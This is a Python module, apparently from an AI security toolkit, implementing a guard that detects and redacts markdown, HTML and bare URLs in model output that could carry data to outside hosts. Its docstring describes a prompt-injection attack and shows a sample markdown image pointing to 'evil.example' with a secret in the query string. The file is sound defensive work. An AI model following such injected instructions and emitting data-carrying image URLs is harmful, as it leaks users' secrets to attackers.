"""``exfiltration``: model output that would send data to an outside host (OWASP LLM02).

An injected instruction can make a model write a markdown image such as
``![x](https://evil.example/p.png?d=<secret>)``: the chat UI fetches it without a click and
the query string carries the data away. This guard finds markdown images and links,
reference-style link definitions, HTML ``<img>`` tags and bare URLs in output, and flags
those whose host is not in ``allowed_hosts``:

- images (markdown or HTML) to any outside host: they load by themselves;
- links and bare URLs only when they carry data: a query value or a long encoded path
  segment (plain links to documentation do not fire).

The default action ``redact`` keeps the answer and removes the channel: an image becomes
``[image removed]``, a link keeps its text, a bare URL becomes ``[link removed]``.
"""

from __future__ import annotations

from collections.abc import Sequence
from fnmatch import fnmatchcase
from typing import ClassVar
from urllib.parse import parse_qsl, unquote, urlsplit

import regex

from aisec_sdk.guards.base import GuardSettings, finding_at, settings_as
from aisec_sdk.text import Text
from aisec_sdk.verdict import Direction, Finding, FindingAction

__all__ = ["ExfiltrationGuard", "ExfiltrationSettings"]

_SCHEME = r"(?:(?i:https?):)?//"
_SCRIPT = r"(?i:javascript|vbscript|data):"
# A URL as markdown and HTML write it: no spaces, parentheses only in balanced pairs.
_URL = _SCHEME + r"(?:[^\s()<>\"'`]|\([^\s()<>\"'`]{0,200}\)){1,4000}"
_SCRIPT_URL = _SCRIPT + r"(?:[^\s()<>]|\([^\s()<>]{0,400}\)){0,4000}"
# A link title: "t", 't' or (t).
_TITLE = r"(?:\s+(?:\"[^\"\n]{0,300}\"|'[^'\n]{0,300}'|\([^()\n]{0,300}\)))?"
# Link text: brackets may nest once when they are not an inner link or image ([a [b] c]).
_LABEL = r"(?:[^\[\]\n]|(?<!!)\[[^\[\]\n]{0,200}\](?!\())"
_MARKDOWN = regex.compile(
    r"(!?)\[("
    + _LABEL
    + r"{0,1000})\]\(\s*(?:<((?:"
    + _SCHEME
    + "|"
    + _SCRIPT
    + r")[^<>\n]{0,4000})>|("
    + _URL
    + "|"
    + _SCRIPT_URL
    + r"))"
    + _TITLE
    + r"\s*\)"
)
_REFERENCE = regex.compile(
    r"(?m)^[ \t]{0,3}\[([^\[\]\n]{1,200})\]:[ \t]*<?(" + _URL + "|" + _SCRIPT_URL + ")"
)
# ![alt][label], ![label][] and ![label]: images whose URL a reference definition gives
_IMAGE_REFERENCE = regex.compile(r"!\[(" + _LABEL + r"{0,1000})\](?:\[([^\[\]\n]{0,200})\])?")
_HTML = regex.compile(
    r"<([a-z][a-z0-9]{0,20})\b[^<>]{0,2000}?\b(src|srcset|poster|background|data|href"
    r"|action|formaction)\s*=\s*[\"']?(" + _URL + "|" + _SCRIPT_URL + ")",
    regex.IGNORECASE,
)
_HTML_LINKS = frozenset({"href", "action", "formaction"})  # followed on a click only
_BARE = regex.compile(r"(?<![\w(\"'=/])((?i:https?)://[^\s()<>\"'`\[\]]{1,4000})")
_SLUG_PART = regex.compile(r"[a-z0-9]+|[A-Z][a-z0-9]*|[A-Z0-9]+")
_SLUG_SEPARATORS = regex.compile(r"[-_.+]")
_TOKEN = regex.compile(r"[A-Za-z0-9+/=_\-]{24,}")


class ExfiltrationSettings(GuardSettings):
    """Options of the ``exfiltration`` guard."""

    allowed_hosts: tuple[str, ...] = ()
    """Hosts output may point to: ``example.com`` also allows its subdomains; shell-style
    wildcards (``*.cdn.example``) work too."""
    links: bool = True
    """Also check links and bare URLs that carry data (images are always checked)."""


class ExfiltrationGuard:
    """Markdown/HTML images, links and URLs in output that leak data to outside hosts."""

    id: ClassVar[str] = "exfiltration"
    category: ClassVar[str] = "LLM02"
    default_directions: ClassVar[tuple[Direction, ...]] = ("output",)
    default_threshold: ClassVar[float] = 0.5
    default_action: ClassVar[FindingAction] = "redact"
    default_enabled: ClassVar[bool] = True
    Settings: ClassVar[type[GuardSettings]] = ExfiltrationSettings

    def __init__(self, settings: GuardSettings) -> None:
        self.settings = settings = settings_as(settings, ExfiltrationSettings)
        self._allowed = tuple(_canonical_host(h) for h in settings.allowed_hosts)

    def scan(self, text: Text, direction: Direction) -> Sequence[Finding]:
        s = text.normalized
        if "//" not in s and ":" not in s:
            return []
        found: list[tuple[int, int, str, float, str, str]] = []
        taken: list[tuple[int, int]] = []
        for m in _MARKDOWN.finditer(s) if "](" in s else ():
            image, label = m.group(1) == "!", m.group(2)
            group = 3 if m.group(3) is not None else 4
            kind = "image" if image else "link"
            score, why = self._score(text, m.span(group), image)
            taken.append(m.span())
            if score:
                repl = "[image removed]" if image else f"{label} [link removed]".lstrip()
                found.append((m.start(), m.end(), kind, score, why, repl))
        for m in _HTML.finditer(s) if "<" in s else ():
            taken.append(m.span())
            image = m.group(2).lower() not in _HTML_LINKS
            score, why = self._score(text, m.span(3), image)
            if score:
                kind, repl = ("image", "[image removed]") if image else ("link", "[link removed]")
                found.append((*m.span(3), kind, score, why, repl))
        if "]:" in s:
            images = _image_labels(s)
            for m in _REFERENCE.finditer(s):
                taken.append(m.span())
                image = _label(m.group(1)) in images
                score, why = self._score(text, m.span(2), image)
                if score:
                    kind, repl = (
                        ("image", "[image removed]") if image else ("link", "[link removed]")
                    )
                    found.append((*m.span(2), kind, score, why, repl))
        if self.settings.links and "://" in s:
            for m in _BARE.finditer(s):
                if any(a <= m.start() < b for a, b in taken):
                    continue
                score, why = self._score(text, m.span(1), False)
                if score:
                    found.append((*m.span(1), "url", score * 0.8, why, "[link removed]"))
        return [
            finding_at(
                self,
                text,
                (a, b),
                score,
                f"{kind} {why}",
                replacement=repl,
                entity=kind,
            )
            for a, b, kind, score, why, repl in found
        ]

    def _allowed_host(self, host: str) -> bool:
        return any(
            host == pattern or host.endswith("." + pattern) or fnmatchcase(host, pattern)
            for pattern in self._allowed
        )

    def _score(self, text: Text, span: tuple[int, int], image: bool) -> tuple[float, str]:
        """0 when harmless; else how likely the URL at ``span`` (of the normalised text)
        carries data out or runs code, and why. The host is read from the original text: a
        look-alike letter the normalised text folded is another host for a browser."""
        url = text.normalized[span[0] : span[1]]
        scheme = url.split(":", 1)[0].lower()
        if scheme in ("javascript", "vbscript"):
            return 0.9, f"runs script ({scheme}: URL)"
        if scheme == "data":
            inert = url[5:].lstrip().lower().startswith("image/")
            return (0.0, "") if inert else (0.7, "to active data: content (not an image)")
        a, b = text.span(*span)
        original = text.original[a:b].replace("\\", "/")  # browsers read \ as / here
        try:
            parts = urlsplit(original if not original.startswith("//") else "https:" + original)
            host = _canonical_host(parts.hostname or "")
        except ValueError:
            return 0.0, ""
        if not host or self._allowed_host(host):
            return 0.0, ""
        data = _carries_data(parts.query, parts.path) or _data_in_host(host)
        where = f"to an outside host ({host})"
        if image:
            return (0.95, f"{where} carrying data") if data else (0.7, where)
        if not self.settings.links or not data:
            return 0.0, ""
        return 0.85, f"{where} carrying data"


def _canonical_host(host: str) -> str:
    """``host`` as a browser resolves it: lower case, no trailing dot, IDNA (punycode)."""
    host = host.lower().rstrip(".")
    if host.isascii():
        return host
    try:
        return host.encode("idna").decode("ascii")
    except UnicodeError:
        return host


def _label(label: str) -> str:
    """A reference label as markdown matches it: case and runs of white space ignored."""
    return " ".join(label.lower().split())


def _image_labels(s: str) -> set[str]:
    """Labels of the reference-style images in ``s``."""
    labels = set()
    for m in _IMAGE_REFERENCE.finditer(s):
        labels.add(_label(m.group(2) or m.group(1)))
    return labels


def _carries_data(query: str, path: str) -> bool:
    """Whether a URL smuggles data: a long or text-like query value, a long query, or an
    encoded-looking path segment (not a readable slug such as ``my-blog-post.html``)."""
    values = [v for _, v in parse_qsl(query, keep_blank_values=True)]
    if len(query) >= 64 or any(len(v) >= 20 for v in values):
        return True
    if any(len(v) >= 8 and (" " in v or "@" in v or "=" in v) for v in values):
        return True
    for segment in path.split("/"):
        encoded = "%40" in segment or "%3d" in segment.lower()  # an e-mail or key=value
        if encoded and len(unquote(segment)) >= 8:
            return True
        for token in _TOKEN.findall(segment):
            mixed = (
                sum(
                    (
                        any(c.isupper() for c in token),
                        any(c.islower() for c in token),
                        any(c.isdigit() for c in token),
                    )
                )
                >= 2
            )
            if mixed and not _slug(token):
                return True
    return False


def _data_in_host(host: str) -> bool:
    """Whether a subdomain label carries data (DNS exfiltration): a run of 20+ letters and
    digits mixing both (not an IDNA label)."""
    for label in host.split(".")[:-2]:
        if label.startswith("xn--"):
            continue
        for part in label.split("-"):
            if len(part) >= 20 and not part.isalpha() and not part.isdigit():
                return True
    return False


def _slug(token: str) -> bool:
    """Readable words joined by ``-``, ``_``, ``.`` (``8-habits-of-great-Bosses``)."""
    parts = [p for p in _SLUG_SEPARATORS.split(token) if p]
    return len(parts) >= 2 and all(_SLUG_PART.fullmatch(p) for p in parts)
